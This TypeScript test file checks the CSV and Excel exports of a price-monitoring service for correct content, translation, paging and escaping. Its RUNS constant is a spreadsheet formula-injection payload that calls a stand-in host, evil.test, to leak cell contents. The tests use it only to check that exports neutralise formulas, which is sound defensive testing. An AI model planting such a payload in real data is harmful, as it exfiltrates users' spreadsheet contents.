import { HOUR_MS } from "../../src/base/time.ts";
import { deepStrictEqual as assertEquals, match, ok } from "node:assert/strict";
import { type Columns, openListTable } from "../../src/catalogue/lists/list_file.ts";
import {
  CODE_WORDS,
  codeCell,
  codesCell,
  storedCodeCell,
} from "../../src/engine/wording/code_words.ts";
import type { Caller } from "../caller.ts";
import { csvCells, germanTime, sheetsOf } from "../read_table.ts";
import {
  addProduct,
  addRule,
  addSilentRule,
  push,
  untilJudged,
} from "../rules/evaluation/market.ts";
import { startTestApp, type TestApp, withApp } from "../harness.ts";
import { startErp } from "../market/export/erp.ts";
import { ended, withScrapingApp } from "../scraping/scraping_app.ts";
import { bodyOf, column, everyItem, refusalOf, refuses, valuesOf } from "./answers.ts";
import type { Cell, OutgoingTable } from "../../src/platform/tables/cell.ts";
import { tableResponse, worded } from "../../src/platform/tables/table_answer.ts";
import { IMPORT, importXml, itemsXml } from "../imports/import_calls.ts";
import { until } from "../patience.ts";
import fc from "fast-check";
import { extent } from "../proof.ts";

const RUNS = '=HYPERLINK("http://evil.test/"&A1,"x")';

type Row = Readonly<Record<string, unknown>>;

interface FiledList {
  readonly path: string;
  /** Query strings to request; by default one without parameters. */
  readonly queries?: readonly string[];
  /** Name of the field and of the column that identify an entry; `id` by default. */
  readonly idIn?: string;
  /** Column with a text that a spreadsheet would run as a formula; null if there is none. */
  readonly hostileIn: string | null;
  /** True if the list is not paginated. */
  readonly isWhole?: boolean;
  /** Maps each column that contains codes to its group of translations in `CODE_WORDS`. */
  readonly words: Readonly<Record<string, keyof (typeof CODE_WORDS)["de"]>>;
}

const LISTS: readonly FiledList[] = [
  {
    path: "/api/alerts",
    queries: ["", "order=desc", "severity=high"],
    hostileIn: "title",
    words: { severity: "severities", mail: "mails" },
  },
  { path: "/api/competitors", hostileIn: "displayName", words: { lastError: "scrapeErrors" } },
  {
    path: "/api/rules",
    hostileIn: "name",
    isWhole: true,
    words: { trigger: "triggers", actions: "actions" },
  },
  {
    path: "/api/scrape-runs",
    queries: ["", "order=desc", "status=failed"],
    hostileIn: "sku",
    words: { status: "jobStates", trigger: "runTriggers" },
  },
  {
    path: "/api/imports",
    queries: ["", "source=default", "source=other"],
    idIn: "jobId",
    hostileIn: null,
    words: { status: "jobStates", error: "findings", mode: "importModes" },
  },
  {
    path: "/api/import-sources",
    hostileIn: "name",
    words: { kind: "sourceKinds", mode: "importModes", lastImport: "jobStates" },
  },
  {
    path: "/api/price-arrivals",
    queries: ["", "status=missing", "status=waiting"],
    idIn: "productId",
    hostileIn: null,
    words: { status: "arrivals" },
  },
  {
    path: "/api/proposals",
    queries: ["", "status=open&sort=effect", "status=open&direction=up", "order=desc"],
    hostileIn: "title",
    words: { status: "proposalStatuses", effectBasis: "effectBases" },
  },
  {
    path: "/api/market/moves",
    queries: ["", "kind=new_offer", "kind=up", "hasCategory=true"],
    hostileIn: "title",
    isWhole: true,
    words: { kind: "moveKinds" },
  },
];

/** Adds entries to every list, many of them with a formula as their name or title. */
async function fill(app: TestApp): Promise<void> {
  const { owner } = app;
  const erp = await startErp(app);
  await erp.set("P", 11);
  await erp.set("Q", 21);
  await erp.set("R", 31);
  await erp.fetch();
  await erp.send({ P: "12,00", R: "31,00" });
  const actions = [
    { type: "propose_price", formula: "match_cheapest" },
    { type: "alert_inapp", severity: "high" },
  ];
  await addRule(owner, { name: RUNS, priority: 7, actions });
  await addRule(owner, { name: "Zweite", priority: 3, enabled: false });
  const ids: string[] = [];
  for (const sku of ["=A", "B", "C"]) {
    ids.push(await addProduct(owner, sku, { title: RUNS, category: "K" }));
  }
  await push(app, [["=A", "acme", 90], ["B", "acme", 80], ["C", "bolt", 95]]);
  await untilJudged(app);
  const { items } = await owner.read("/api/competitors");
  await owner.change(`/api/competitors/${items[0].id}`, { displayName: RUNS });
  await owner.create("/api/import-sources", { id: "other", name: RUNS });
  for (const id of ids) {
    const { runId } = await app.manager.begin(`/api/products/${id}/scrape-now`);
    await ended(app, runId);
  }
}

async function listed(caller: Caller, { path, isWhole }: FiledList, query: string): Promise<Row[]> {
  if (path === "/api/rules") {
    const rules: Row[] = await caller.read(path);
    return rules.toSorted((a, b) => Number(a.priority) - Number(b.priority));
  }
  if (isWhole) return (await caller.read(`${path}?limit=200&${query}`)).items;
  return await everyItem(caller, `${path}?limit=1&${query}`);
}

async function cellsAt(caller: Caller, path: string): Promise<string[][]> {
  return csvCells(await (await caller.get(path)).text(), ";");
}

async function sheetAt({ viewer }: TestApp, path: string): Promise<(string | null)[][]> {
  const workbook = await viewer.get(path);
  assertEquals(workbook.status, 200, path);
  return (await sheetsOf(await workbook.bytes()))["1"] ?? [];
}

async function agrees(app: TestApp, stranger: Caller, list: FiledList): Promise<void> {
  const { path, queries = [""], idIn = "id", hostileIn } = list;
  let seen = 0;
  for (const query of queries) {
    const where = `${path}?${query}`;
    const ids = column(await listed(app.viewer, list, query), idIn);
    const answer = await app.viewer.get(`${path}.csv?${query}`);
    assertEquals(answer.status, 200, where);
    match(answer.headers.get("Content-Disposition") ?? "", /^attachment; filename="[\w-]+\.csv"$/);
    const text = new TextDecoder("utf-8", { ignoreBOM: true }).decode(await answer.arrayBuffer());
    ok(text.startsWith('\uFEFF"'), where);
    const [head = [], ...cells] = csvCells(text, ";");
    const at = head.indexOf(idIn);
    assertEquals(column(cells, at), ids, where);
    ok(cells.every((row) => row.length === head.length), where);
    for (const cell of cells.flat()) ok(!/^[=+@]/.test(cell), `${where}: ${cell}`);
    const plain = await app.viewer.get(`${path}.csv?dialect=rfc4180&${query}`);
    assertEquals(csvCells(await plain.text(), ",").length, cells.length + 1, where);

    const sheet = await sheetAt(app, `${path}.xlsx?${query}`);
    assertEquals(sheet[0], head, where);
    assertEquals(column(sheet.slice(1), at), ids, where);
    if (hostileIn !== null && query === "") {
      const place = head.indexOf(hostileIn);
      ok(cells.some((row) => /^'=|^'?@/.test(row[place] ?? "")), `${where}: nothing hostile`);
      // Cells of a workbook are marked as text, so formulas need no apostrophe.
      ok(sheet.some((row) => row[place]?.startsWith("=")), where);
    }
    seen += ids.length;
    const [, ...others] = await cellsAt(stranger, `${path}.csv?${query}`);
    assertEquals(column(others, at).filter((id) => id !== "default" && ids.includes(id)), []);
  }
  ok(seen > 1, `${path}: ${seen} rows`);
  await isWorded(app, list);
  for (const query of ["limit=2", "cursor=x", "nothing=1", "lang=fr"]) {
    for (const file of ["csv", "xlsx"]) await refusalOf(app.viewer.get(`${path}.${file}?${query}`));
  }
}

function localTime(cell: string, language: 0 | 1): string {
  const [day = "", time] = germanTime(cell).split(" ");
  return language === 0 ? `${day} ${time}` : `${day.split(".").toReversed().join("-")} ${time}`;
}

const FLAGS: Record<string, readonly string[]> = { true: ["ja", "yes"], false: ["nein", "no"] };

/**
 * Requires that files for people differ from files for programs only in headings, codes, flags,
 * times and the sentences that describe rules.
 */
async function isWorded(app: TestApp, { path, words }: FiledList): Promise<void> {
  const read = (query: string) => cellsAt(app.viewer, `${path}.csv?${query}`);
  const [names = [], ...rows] = await read("");
  const [german, english] = [await read("lang=de"), await read("lang=en")];
  const rules = path === "/api/rules" ? await app.viewer.read(path) : [];
  const sentences: string[][] = rules
    .toSorted((a: Row, b: Row) => Number(a.priority) - Number(b.priority))
    .map(({ sentence }: { sentence: Row }) => [sentence.de, sentence.en]);
  const expected = (language: 0 | 1) =>
    rows.map((row, line) =>
      row.map((cell, at) => {
        const group = words[names[at] ?? ""];
        if (names[at] === "sentence") return sentences[line]?.[language];
        if (germanTime(cell) !== cell) return localTime(cell, language);
        if (group === undefined || cell === "") return FLAGS[cell]?.[language] ?? cell;
        const terms: Record<string, string> = CODE_WORDS[language === 0 ? "de" : "en"][group];
        return cell.split(" ").map((code) => terms[code] ?? `no word for ${code}`).join(", ");
      })
    );
  for (const [language, [head = [], ...others]] of [[0, german], [1, english]] as const) {
    assertEquals(others, expected(language), path);
    assertEquals(
      [head.length, new Set(head).size],
      [names.length, names.length],
      `${path} ${head}`,
    );
    ok(!head.includes(""), path);
  }
  assertEquals(german[0]?.filter((text) => names.includes(text)), [], path);
  const sheet = await sheetAt(app, `${path}.xlsx?lang=de`);
  assertEquals(sheet[0], german[0], path);
  for (const name of Object.keys(words)) {
    const at = names.indexOf(name);
    const shown = column(sheet, at).map((cell) => cell ?? "");
    assertEquals(shown, column(german, at), `${path} ${name}`);
  }
}

withScrapingApp.test("every list is a CSV and a workbook of all that fits, in its order, without a formula", async (app) => {
  await fill(app);
  const stranger = await app.strangerOwner();
  for (const list of LISTS) await agrees(app, stranger, list);
});

/** Adds two products with hostile titles, both with a price in quarantine and a price-war brake. */
async function fillWaiting(app: TestApp): Promise<{ readonly ruleId: string }> {
  const { owner } = app;
  await owner.change("/api/settings", { autoApply: true });
  const skus = ["=A", "B"];
  for (const sku of skus) await addProduct(owner, sku, { title: RUNS, costPrice: 20 });
  app.clock.advance(HOUR_MS);
  await push(app, skus.map((sku) => [sku, "acme", 100]));
  await untilJudged(app);
  const ruleId = await addSilentRule(app, {
    name: RUNS,
    when: { trigger: "market_index", always: true },
    marginFloor: { pct: 10 },
    brake: { cuts: 1, days: 2, restDays: 2 },
    actions: [{ type: "auto_apply_if_safe", price: { adjust: { cents: -1 } } }],
  });
  app.clock.advance(HOUR_MS);
  await push(app, [["=A", "acme", 99], ["B", "acme", 98]]);
  app.clock.advance(HOUR_MS);
  await push(app, [["=A", "acme", 45], ["B", "acme", 44]]);
  await untilJudged(app);
  return { ruleId };
}

Deno.test("prices that wait and brakes are files of all that fits, without a formula", async () => {
  await using app = await startTestApp({ holdsPrices: true });
  const { ruleId } = await fillWaiting(app);
  const stranger = await app.strangerOwner();
  await agrees(app, stranger, {
    path: "/api/quarantine",
    hostileIn: "title",
    words: { code: "suspicions", outcome: "verdicts" },
  });
  await agrees(app, stranger, {
    path: "/api/brakes",
    queries: ["", `ruleId=${ruleId}`, "ruleId=none"],
    idIn: "productId",
    hostileIn: "rule",
    words: {},
  });
  const isFirst = ({ sku }: Row) => sku === "'=A";
  const held = (await rowsOfFile(app, "/api/quarantine.csv")).filter(isFirst);
  assertEquals(
    valuesOf(held, "seen", "currency", "accepted", "code", "against", "outcome"),
    [["45,00", "EUR", "99,00", "fell", "99,00", ""]],
  );
  const brakes = (await rowsOfFile(app, `/api/brakes.csv?ruleId=${ruleId}`)).filter(isFirst);
  assertEquals(
    valuesOf(brakes, "cuts", "before", "after", "reference", "currency"),
    [["1", "100,00", "98,99", "99,00", "EUR"]],
  );
});

async function rowsOfFile({ viewer }: TestApp, path: string): Promise<Row[]> {
  const [head = [], ...rows] = await cellsAt(viewer, path);
  return rows.map((row) => Object.fromEntries(head.map((name, at) => [name, row[at]])));
}

withScrapingApp.test("amounts in files are in major units, and a run's results are a file, too", async (app) => {
  await fill(app);
  const arrivals = await rowsOfFile(app, "/api/price-arrivals.csv");
  assertEquals(
    valuesOf(arrivals, "sku", "status", "expected", "seen", "currency"),
    [["P", "not_arrived", "11,00", "12,00", "EUR"], ["Q", "waiting", "21,00", "", "EUR"]],
  );
  const proposals = await rowsOfFile(app, "/api/proposals.csv?status=open&sku=B");
  assertEquals(valuesOf(proposals, "current", "proposed"), [["100,00", "80,00"]]);
  const [rule] = await rowsOfFile(app, "/api/rules.csv");
  match(String(rule?.sentence), /^Wenn /);
  const [run] = (await app.viewer.read("/api/scrape-runs")).items;
  const results = await rowsOfFile(app, `/api/scrape-runs/${run.id}/results.csv`);
  const fields = ["url", "status", "errorCode"];
  assertEquals(valuesOf(results, ...fields), valuesOf(run.results, ...fields));
  assertEquals(results.length, 1);
  for (const file of ["csv", "xlsx"]) {
    const path = `/api/scrape-runs/${"0".repeat(24)}/results.${file}`;
    await refuses(app.viewer.get(path), "not_found");
    const sorted = app.viewer.get(`/api/proposals.${file}?status=applied&sort=rule`);
    await refuses(sorted, "validation_failed");
  }
});

const NUMBERS: Columns<number> = { line: (n) => n, price: (n) => n / 2 };

Deno.test("a list is read page by page, each once the previous one is used up", async () => {
  const asked: (string | undefined)[] = [];
  const table = await openListTable("numbers", NUMBERS, ({ cursor }) => {
    asked.push(cursor);
    const n = Number(cursor ?? 0);
    const items = n === 2 ? [] : [n * 2, n * 2 + 1];
    return Promise.resolve({ items, count: items.length, nextCursor: n < 3 ? `${n + 1}` : null });
  });
  assertEquals(asked, [undefined]);
  const batches = table.batches[Symbol.asyncIterator]();
  await batches.next();
  assertEquals(asked, [undefined]);
  assertEquals((await batches.next()).value, [[2, 1], [3, 1.5]]);
  // An empty page does not end the table.
  assertEquals((await batches.next()).value, [[6, 3], [7, 3.5]]);
  assertEquals([(await batches.next()).done, asked], [true, [undefined, "1", "2", "3"]]);
  const none = { items: [], count: 0, nextCursor: null };
  const { columns, batches: empty } = await openListTable("none", NUMBERS, async () => await none);
  assertEquals([columns, (await Array.fromAsync(empty)).flat()], [["line", "price"], []]);
});

/** Returns each column's name, and its cell in the first row: as code, German, and English. */
async function wordsAt(caller: Caller, path: string, ...columns: readonly string[]) {
  const start = path.includes("?") ? "&" : "?";
  const files = await Promise.all(
    ["", "lang=de", "lang=en"].map((query) => cellsAt(caller, `${path}${start}${query}`)),
  );
  const head = files[0]?.[0] ?? [];
  return columns.map((name) => [name, ...files.map((rows) => rows[1]?.[head.indexOf(name)] ?? "")]);
}

withApp.test("products have market words, the audit log actions, an import findings", async (app) => {
  const made = { condition: "refurbished", scrapeEnabled: false };
  const id = await addProduct(app.manager, "A-1", made);
  await push(app, [["A-1", "acme", 90]]);

  const expected = [
    ["sku", "A-1", "A-1", "A-1"],
    ["condition", "refurbished", "generalüberholt", "refurbished"],
    ["scrapeEnabled", "false", "nein", "no"],
    ["state", "ok", "verglichen", "compared"],
    ["position", "dearest", "teuerster", "most expensive"],
    ["cheapestMatchType", "exact", "dasselbe Produkt", "the same product"],
    ["cheapestInStock", "true", "ja", "yes"],
  ];
  const names: string[] = column(expected, 0);
  const products = `/api/products.csv?columns=${names}`;
  assertEquals(await wordsAt(app.viewer, products, ...names), expected);

  app.clock.advance(60_000);
  const evidence = `/api/products/${id}/price-evidence.csv`;
  assertEquals(await wordsAt(app.viewer, evidence, "source", "isCounted"), [
    ["source", "api", "Eingabe oder API", "Entered or API"],
    ["isCounted", "true", "ja", "yes"],
  ]);

  await app.manager.change(`/api/products/${id}`, { title: "Neu" });
  const columns = ["at", "action", "resourceType", "actorType"];
  const [times = [], ...audit] = await wordsAt(app.viewer, "/api/audit-logs.csv", ...columns);
  assertEquals(audit, [
    ["action", "product.update", "geändert", "changed"],
    ["resourceType", "product", "Produkt", "Product"],
    ["actorType", "user", "Person", "Person"],
  ]);

  // Times are in the workspace's time zone for people, in UTC for programs.
  const [, at = "", ...shown] = times;
  const day = Temporal.Instant.from(at).toZonedDateTimeISO("Europe/Berlin").toPlainDate();
  const german = day.toString().split("-").toReversed().join(".");
  assertEquals(shown.map((text) => text.slice(0, 10)), [german, day.toString()]);

  const history = `/api/products/${id}/price-history`;
  const { items: [entry] } = await app.viewer.read(history);
  const marked = async (isError: boolean) => {
    await app.manager.act(`${history}/${entry.at}/mark`, { isError, reason: "Tippfehler" });
    return (await wordsAt(app.viewer, "/api/audit-logs.csv?action=product.mark", "action"))[0];
  };
  assertEquals((await marked(true))?.[2], "im Preisverlauf gekennzeichnet");
  const unmarked = ["action", "product.mark", "Kennzeichnung zurückgenommen", "mark removed"];
  assertEquals(await marked(false), unmarked);

  const key = await app.key(["products:write"]);
  const { data: { jobId } } = await importXml(key, itemsXml([{ sku: "B", price: "1,00" }]));
  // English files keep the code, because another column has the message. German files have a German
  // sentence instead.
  const findings = `/api/imports/${jobId}/errors?format=csv`;
  assertEquals(await wordsAt(app.viewer, findings, "severity", "code"), [
    ["severity", "error", "Fehler", "error"],
    ["code", "missing_title", "Ein neues Produkt braucht einen Titel.", "missing_title"],
  ]);
  const forPrograms = await wordsAt(key, `${IMPORT}/${jobId}/errors?format=csv`, "code");
  assertEquals(forPrograms, [["code", "missing_title", "missing_title", "missing_title"]]);
});

Deno.test("a cell has words for people; with an unknown code, it has this code or its message", () => {
  const textsOf = (cell: ReturnType<typeof storedCodeCell>) =>
    cell && [cell.plain, cell.textIn("de"), cell.textIn("en")];
  const answer = "The server answered 500";
  const cases = [
    [codeCell("proposalStatuses", "rolled_back"), "rolled_back", "zurückgenommen", "rolled back"],
    [codesCell("days", ["mon", "sun"]), "mon sun", "Mo, So", "Mon, Sun"],
    [storedCodeCell("scrapeErrors", "of_tomorrow"), "of_tomorrow", "of_tomorrow", "of_tomorrow"],
    [storedCodeCell("pullErrors", "http_500", answer), "http_500", answer, answer],
    // Every object inherits `toString`, which must not be taken for an error code.
    [storedCodeCell("scrapeErrors", "toString"), "toString", "toString", "toString"],
  ] as const;
  for (const [cell, ...texts] of cases) assertEquals(textsOf(cell), texts);
});

/** An endless table that records whether its reader has called `return`. */
function heldTable(rows: readonly (readonly Cell[])[]) {
  const state = { isLetGo: false };
  const batches = {
    next: () => Promise.resolve({ done: false, value: rows } as const),
    return() {
      state.isLetGo = true;
      return Promise.resolve({ done: true, value: undefined } as const);
    },
    [Symbol.asyncIterator]() {
      return this;
    },
  };
  const table: OutgoingTable = { name: "t", columns: ["a"], headingsIn: () => ["A"], batches };
  return { state, table };
}

Deno.test("a table with words is released if its reader stops before or after the first row", async () => {
  const form = { format: "csv", dialect: "rfc4180", timeZone: "UTC" } as const;
  const unread = heldTable([]);
  await worded(unread.table, "de", null).batches[Symbol.asyncIterator]().return?.();
  assertEquals(unread.state.isLetGo, true);
  for (const chunks of [1, 2]) {
    const { state, table } = heldTable([[true], ["=1"]]);
    const answer = tableResponse(worded(table, "de", null), form);
    const reader = answer.body!.getReader();
    for (let n = 0; n < chunks; n++) {
      const { value } = await reader.read();
      const text = new TextDecoder().decode(value);
      assertEquals(text, n === 0 ? '"A"\r\n' : '"ja"\r\n"\'=1"\r\n');
    }
    await reader.cancel();
    await until(`let go after ${chunks}`, () => state.isLetGo);
  }
});

const fields = fc.record({
  brand: fc.constantFrom("Bosch", "BOSCH Siemens", "Miele", null),
  category: fc.constantFrom("Bad", "Badmöbel", "Küche", null),
  tier: fc.constantFrom("A", "B", null),
});
type Fields = typeof fields extends fc.Arbitrary<infer T> ? T : never;

interface Listed extends Fields {
  readonly id: string;
  readonly sku: string;
  updatedAt: string;
  isDeleted: boolean;
}

type FilterName = keyof Fields | "q" | "sku" | "includeDeleted" | "updatedSince";
type Filter = Partial<Record<FilterName, string>>;

const includeDeleted = fc.constant("true");
const optional = { requiredKeys: [] };
const filter: fc.Arbitrary<Filter> = fc.oneof(
  fc.record({
    brand: fc.constantFrom("bosch", "SIEM", "e", "nobody"),
    category: fc.constantFrom("BAD", "möbel", "Küche"),
    tier: fc.constantFrom("A", "B"),
  }, optional),
  fc.record({ includeDeleted, brand: fc.constantFrom("bosch", "e") }, optional),
  fc.record({ includeDeleted, q: fc.constantFrom("1", "sku-2"), tier: fc.constant("A") }, optional),
  fc.record({ includeDeleted, sku: fc.constantFrom("SKU-1", "SKU-2") }, optional),
);

/** Selects the product at this index, modulo the number of products. */
const at = fc.nat(1_000);
const step = fc.oneof(
  fc.record({ does: fc.constant("create" as const), fields }),
  fc.record({ does: fc.constant("delete" as const), at }),
  fc.record({ does: fc.constant("restore" as const), at }),
  fc.record({ does: fc.constant("change" as const), at, fields }),
);

type Step = typeof step extends fc.Arbitrary<infer T> ? T : never;

const plan = fc.record({
  products: fc.array(fields, { maxLength: extent(40, 20), size: "max" }),
  filter,
  /** Selects the product whose last change is the filter `updatedSince`; null for no filter. */
  since: fc.option(at),
  limit: fc.integer({ min: 1, max: 12 }),
  steps: fc.array(fc.array(step, { maxLength: 4 }), { maxLength: 20, size: "max" }),
});

/** Makes each change both in the service and in an array, to compare the two lists. */
class Shop {
  readonly #listed: Listed[] = [];

  constructor(private readonly app: TestApp, private readonly owner: Caller) {}

  changedAt(at: number): string | undefined {
    return this.#listed[at % this.#listed.length]?.updatedAt;
  }

  async create(given: Fields): Promise<void> {
    this.app.clock.advance(1_000);
    const made = { sku: `SKU-${this.#listed.length}`, title: "t", ...given };
    const { id, updatedAt } = await this.owner.create("/api/products", made);
    this.#listed.push({ id, updatedAt, ...made, isDeleted: false });
  }

  async take(step: Step): Promise<void> {
    this.app.clock.advance(1_000);
    if (step.does === "create") return await this.create(step.fields);
    const product = this.#listed[step.at % this.#listed.length];
    if (!product) return;
    const path = `/api/products/${product.id}`;
    if (step.does === "restore") {
      await this.owner.act(`${path}/restore`);
      product.isDeleted = false;
    } else if (step.does === "delete") {
      await bodyOf(this.owner.delete(path), product.isDeleted ? 404 : 200);
      product.isDeleted = true;
    } else if (!product.isDeleted) {
      await this.owner.change(path, step.fields);
      Object.assign(product, step.fields);
    }
    product.updatedAt = (await this.owner.read(`${path}?includeDeleted=true`)).updatedAt;
  }

  fitting({ brand, category, tier, q, sku, includeDeleted, updatedSince = "" }: Filter): string[] {
    const holds = (text: string | null, part: string | undefined) =>
      part === undefined || (text ?? "").toLowerCase().includes(part.toLowerCase());
    return this.#listed.filter((product) =>
      (includeDeleted || !product.isDeleted) && product.updatedAt >= updatedSince &&
      holds(product.brand, brand) && holds(product.category, category) && holds(product.sku, q) &&
      (tier === undefined || product.tier === tier) && (sku === undefined || product.sku === sku)
    ).map(({ id }) => id);
  }
}

withApp.test("every page of a list continues after the previous one, despite changes by others", async (app) => {
  await fc.assert(
    fc.asyncProperty(plan, async ({ products, filter: fields, since, limit, steps }) => {
      const owner = await app.strangerOwner();
      const shop = new Shop(app, owner);
      for (const product of products) await shop.create(product);
      const updatedSince = since === null ? undefined : shop.changedAt(since);
      const filter = { ...fields, ...(updatedSince && { updatedSince }) };
      const query = new URLSearchParams({ ...filter, limit: String(limit) });
      let last = "";
      for (let page = 0;; page++) {
        for (const step of steps[page] ?? []) await shop.take(step);
        const { items, nextCursor, count } = await owner.read(`/api/products?${query}`);
        const ids = column(items, "id");
        const left = shop.fitting(filter).filter((id) => id > last);
        assertEquals([ids, count], [left.slice(0, limit), Math.min(limit, left.length)]);
        assertEquals(nextCursor === null, left.length <= limit);
        if (nextCursor === null) break;
        last = ids.at(-1)!;
        query.set("cursor", nextCursor);
      }
    }),
    { numRuns: extent(80, 15) },
  );
});
